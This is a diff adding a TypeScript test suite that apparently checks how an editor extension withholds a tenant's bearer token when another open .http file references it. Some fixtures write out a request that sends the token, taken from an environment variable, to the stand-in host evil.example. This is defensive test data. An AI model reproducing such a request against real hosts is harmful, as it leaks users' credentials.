@@ -1,0 +1,79 @@
+import assert from 'node:assert/strict';
+import { setImmediate } from 'node:timers/promises';
+import { editor } from '../support/vscode.js';
+import { OpenReferences } from '../../src/editor/openReferences.js';
+import { Pieces } from '../../src/editor/pieces.js';
+import { HostConsents } from '../../src/tenants/hostConsents.js';
+import type { FakeDocument } from '../support/document.js';
+import { Range, Uri } from '../support/vscodeTypes.js';
+import { known } from './support/known.js';
+
+const NAME = 'TENANT_TOKEN_ACME';
+const OURS = `GET https://acme.example/x\nAuthorization: Bearer {{$processEnv ${NAME}}}`;
+const LONG = 'GET https://evil.example/\n\n###\n'.repeat(1000);
+
+describe('The references that open files hold', () => {
+  let references: OpenReferences;
+  let ends: (() => void)[];
+
+  beforeEach(async () => {
+    editor.reset();
+    editor.install('humao.rest-client');
+    let now = 0;
+    ends = [];
+    const pieces = new Pieces(
+      () => now++,
+      () => new Promise((resolve) => ends.push(resolve)),
+    );
+    const { tenants, names, issued } = await known();
+    references = new OpenReferences({ tenants, names, issued }, new HostConsents(), pieces);
+  });
+
+  afterEach(() => {
+    references.dispose();
+    editor.reset();
+  });
+
+  const open = (name: string, text: string): FakeDocument => editor.open(text, { uri: Uri.file(`/${name}.http`) }).document;
+
+  async function nextPiece(): Promise<void> {
+    for (const end of ends.splice(0)) end();
+    await setImmediate();
+  }
+
+  /** @returns after how many pieces something is wanted, or everything has been read */
+  async function read(): Promise<number> {
+    for (let pieces = 0; ; pieces++) {
+      if (ends.length === 0 || references.wanted.size > 0) return pieces;
+      await nextPiece();
+    }
+  }
+
+  it('are withheld because of a long file until all of it has been read', async () => {
+    open('ours', OURS);
+    assert.deepEqual([...references.wanted], [NAME]);
+    const long = open('long', LONG);
+    assert.deepEqual([...references.wanted], []);
+    assert.equal(references.withheldBy(NAME)?.uri, long.uri);
+    assert.ok((await read()) > 1);
+    assert.deepEqual([...references.wanted], [NAME]);
+  });
+
+  it('are withheld because of the last line of a long file', async () => {
+    open('ours', OURS);
+    open('long', `${LONG}GET https://evil.example/\nX: {{$processEnv ${NAME}}}`);
+    await read();
+    assert.deepEqual([...references.wanted], []);
+    assert.equal(references.withheldBy(NAME)?.line, 3001);
+  });
+
+  it('are judged by the text that a long file has at the end, where it is changed between two pieces', async () => {
+    open('ours', OURS);
+    const long = open('long', LONG);
+    await nextPiece();
+    long.change([{ range: new Range(1, 0, 1, 0), text: `X: {{$processEnv ${NAME}}}` }]);
+    await read();
+    assert.deepEqual([...references.wanted], []);
+    assert.equal(references.withheldBy(NAME)?.line, 1);
+  });
+});
